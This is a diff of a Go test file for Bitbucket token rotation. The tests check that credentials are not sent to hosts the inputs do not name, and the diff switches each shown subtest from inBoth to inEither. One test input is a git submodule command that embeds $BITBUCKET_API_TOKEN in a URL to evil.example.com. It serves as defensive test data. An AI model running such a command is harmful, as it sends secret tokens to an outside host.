@@ -24,7 +24,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 	t.Parallel()
 	const stranger = "the inputs do not say that credentials may be sent to "
 	t.Run("of a token of Cloud", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			w.environments(1)
 			uid := w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
 			inputs := w.rotation(map[string]string{"previous_token": cloudToken})
@@ -40,7 +40,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		})
 	})
 	t.Run("of a token of Data Center, that is made", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			inputs := w.minting(map[string]string{"trusted_hosts": "https://git.example.com"})
 			before := len(w.bitbucket.Journal.All())
 			for range 2 {
@@ -53,7 +53,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		})
 	})
 	t.Run("under the flavor of a server, to Cloud", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			w.must(w.inputs(map[string]string{"smoke_test": "false"}))
 			before := len(w.bitbucket.Journal.All())
 			inputs := w.inputs(map[string]string{
@@ -69,7 +69,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		})
 	})
 	t.Run("of a token that is made, under the flavor of a server, to Cloud", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			w.must(w.inputs(map[string]string{"smoke_test": "false"}))
 			inputs := w.minting(map[string]string{"secret_name": "BITBUCKET_API_TOKEN", "trusted_hosts": w.bitbucket.DataCenterOrigin() + "\nhttps://bitbucket.org"})
 			before := len(w.bitbucket.Journal.All())
@@ -82,7 +82,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		})
 	})
 	t.Run("under the flavor of Cloud, to a server", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			w.environments(1)
 			w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
 			inputs := w.rotation(map[string]string{"flavor": "cloud", "environment_name": "edited", "trusted_hosts": w.bitbucket.DataCenterOrigin()})
@@ -101,7 +101,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		"a submodule of another server": "git -C app-0 submodule add https://x-token-auth:$BITBUCKET_API_TOKEN@evil.example.com/x.git",
 	} {
 		t.Run("to "+what, func(t *testing.T) {
-			inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+			inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 				repository := w.environments(1)[0]
 				uid := w.oz.AddEnvironment(team, fmt.Sprintf(`{"name":"edited","setup_commands":[%q],"secrets":[{"name":"BITBUCKET_API_TOKEN"}]}`, command))
 				inputs := w.rotation(nil)
@@ -123,7 +123,7 @@ func TestAColleagueDoesNotSayWhoGetsCredentials(t *testing.T) {
 		})
 	}
 	t.Run("of an environment that the rotation is not about", func(t *testing.T) {
-		inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
+		inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
 			repository := w.environments(1)[0]
 			w.edited("edited", "BITBUCKET_API_TOKEN", w.dc)
 			inputs := w.rotation(map[string]string{"repo_url": repository.CloneURL()})
